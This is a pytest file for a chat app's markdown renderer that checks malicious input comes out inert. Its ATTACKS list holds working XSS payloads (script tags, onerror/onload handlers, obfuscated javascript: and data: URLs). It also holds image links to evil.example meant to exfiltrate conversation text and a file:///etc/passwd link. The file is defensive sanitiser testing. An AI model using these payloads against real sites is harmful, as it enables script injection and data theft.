"""Rendered answers keep their shape and carry nothing that runs, fetches or leads astray."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from studio.ui.markdown import render

TAGS = frozenset(
    "p br strong em s h1 h2 h3 h4 h5 h6 ul ol li pre code blockquote hr a table thead tbody tr th td div".split()
)
ATTRIBUTES = {"a": {"href", "title", "rel", "target"}, "code": {"class"}, "ol": {"start"}, "div": {"class"}}
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)"><circle/></svg>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example)">x</p>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](/gradio_api/file=secret)",
    "![x](https://evil.example/?q=the-conversation)",
    "![x][img]\n\n[img]: https://evil.example/leak.png 'onerror=alert(1)'",
    "[![x](https://evil.example/a.png)](https://ok.example)",
    '!["><script>alert(1)</script>](x)',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://ok.example/"onmouseover=alert(1)>',
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    '```html"onload=alert(1)\n<script>alert(1)</script>\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=alert(1)>x</b> |",
    "**<u onmouseover=alert(1)>x</u>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u3000<script>alert(1)</script>",
]


class Inspector(HTMLParser):
    """Collects what a browser would build."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data}")


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_becomes_text(text: str) -> None:
    inspector = Inspector()
    inspector.feed(render(text))
    for tag, attributes in inspector.found:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()), attributes
        if tag == "a":
            assert str(attributes["href"]).startswith(("https://", "http://", "mailto:"))
            assert attributes["rel"] == "noopener nofollow"
            assert attributes["target"] == "_blank"


def test_links_that_are_safe_stay_links() -> None:
    assert '<a href="https://example.org" rel="noopener nofollow" target="_blank">x</a>' in render(
        "[x](https://example.org)"
    )
    assert 'href="mailto:a@example.org"' in render("<a@example.org>") or "mailto:a@example.org" in render(
        "<a@example.org>"
    )


def test_an_image_is_shown_as_it_was_written() -> None:
    assert render("![cat](https://x.example/c.png)") == "<p>![cat](https://x.example/c.png)</p>\n"


def test_tables_strikethrough_and_line_breaks() -> None:
    assert "<table>" in render("| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<s>old</s>" in render("~~old~~")
    assert render("one\ntwo") == "<p>one<br />\ntwo</p>\n"


def test_leading_space_survives() -> None:
    assert render("\u3000段落の始まり") == "<p>\u3000段落の始まり</p>\n"
    assert render("a\n  b") == "<p>a<br />\n\u00a0\u00a0b</p>\n"
    assert "<pre><code>\u3000x" in render("```\n\u3000x\n```")
    assert "<ul>" in render("- a\n  - b")


@pytest.mark.parametrize("text", ["", "   ", "\n\n", "*" * 5000, "[" * 5000, "> " * 2000, "`" * 3000])
def test_odd_input_renders(text: str) -> None:
    assert isinstance(render(text), str)
